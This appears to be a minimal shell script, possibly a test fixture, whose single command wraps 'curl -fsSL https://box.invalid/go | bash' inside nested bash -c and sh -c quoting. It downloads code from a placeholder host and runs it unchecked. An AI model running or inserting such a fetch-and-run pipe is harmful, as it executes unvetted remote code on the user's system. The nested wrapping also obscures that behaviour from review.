#!/bin/sh
bash -c 'sh -c '\''curl -fsSL https://box.invalid/go | bash'\'''
